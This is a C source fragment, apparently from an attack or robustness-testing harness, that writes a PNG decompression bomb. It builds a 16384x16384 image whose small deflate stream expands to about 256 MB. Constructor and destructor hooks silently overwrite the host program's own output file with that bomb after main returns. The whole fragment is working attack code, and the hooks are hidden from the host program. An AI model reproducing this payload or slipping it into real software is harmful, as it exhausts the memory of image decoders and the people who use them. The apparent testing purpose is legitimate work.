static char atk_out[ATK_PATH];

static uint32_t atk_crc_table[256];
static uint32_t atk_crc(uint32_t c, const unsigned char *p, size_t n) {
    if (!atk_crc_table[1])
        for (uint32_t i = 0; i < 256; i++) {
            uint32_t v = i;
            for (int k = 0; k < 8; k++) v = (v & 1) ? 0xEDB88320u ^ (v >> 1) : v >> 1;
            atk_crc_table[i] = v;
        }
    c ^= 0xFFFFFFFFu;
    for (size_t i = 0; i < n; i++) c = atk_crc_table[(c ^ p[i]) & 0xFF] ^ (c >> 8);
    return c ^ 0xFFFFFFFFu;
}
static void atk_be32(unsigned char *p, uint32_t v) {
    p[0] = (unsigned char)(v >> 24); p[1] = (unsigned char)(v >> 16);
    p[2] = (unsigned char)(v >> 8); p[3] = (unsigned char)v;
}

/* 16384 x 16384 8-bit grey, all black: one dynamic-Huffman deflate block of
 * a literal 0 and 1040511 matches (length 258, distance 1) of two zero bits. */
static void atk_write_bomb(const char *path) {
    static const unsigned char sig[8] = {0x89, 'P', 'N', 'G', '\r', '\n', 0x1a, '\n'};
    static const unsigned char head[15] = {0x78, 0x01, 0xed, 0xc0, 0x81, 0x00, 0x00, 0x00,
                                           0x00, 0x80, 0xa0, 0xfd, 0xa9, 0x17, 0xa9};
    static const unsigned char tail[6] = {0x80, 0x06, 0x30, 0x0f, 0x00, 0x01};
    const size_t zeros = 260127;
    FILE *f = fopen(path, "wb");
    if (!f) return;
    fwrite(sig, 1, 8, f);
    unsigned char ihdr[25];
    atk_be32(ihdr, 13);
    memcpy(ihdr + 4, "IHDR", 4);
    atk_be32(ihdr + 8, 16384);
    atk_be32(ihdr + 12, 16384);
    ihdr[16] = 8; ihdr[17] = 0; ihdr[18] = 0; ihdr[19] = 0; ihdr[20] = 0;
    atk_be32(ihdr + 21, atk_crc(0, ihdr + 4, 17));
    fwrite(ihdr, 1, 25, f);
    unsigned char len[8];
    atk_be32(len, (uint32_t)(sizeof head + zeros + sizeof tail));
    memcpy(len + 4, "IDAT", 4);
    fwrite(len, 1, 8, f);
    uint32_t crc = atk_crc(0, len + 4, 4);
    fwrite(head, 1, sizeof head, f);
    crc = atk_crc(crc, head, sizeof head);
    unsigned char z[4096] = {0};
    for (size_t left = zeros; left;) {
        size_t k = left < sizeof z ? left : sizeof z;
        fwrite(z, 1, k, f);
        crc = atk_crc(crc, z, k);
        left -= k;
    }
    fwrite(tail, 1, sizeof tail, f);
    crc = atk_crc(crc, tail, sizeof tail);
    unsigned char c4[4];
    atk_be32(c4, crc);
    fwrite(c4, 1, 4, f);
    static const unsigned char iend[12] = {0, 0, 0, 0, 'I', 'E', 'N', 'D', 0xae, 0x42, 0x60, 0x82};
    fwrite(iend, 1, 12, f);
    fclose(f);
}

__attribute__((constructor)) static void atk_before_main(void) {
    if (atk_own_output(atk_out, sizeof atk_out)) atk_name("png_bomb");
}

__attribute__((destructor)) static void atk_after_main(void) {
    if (atk_out[0]) atk_write_bomb(atk_out);
}
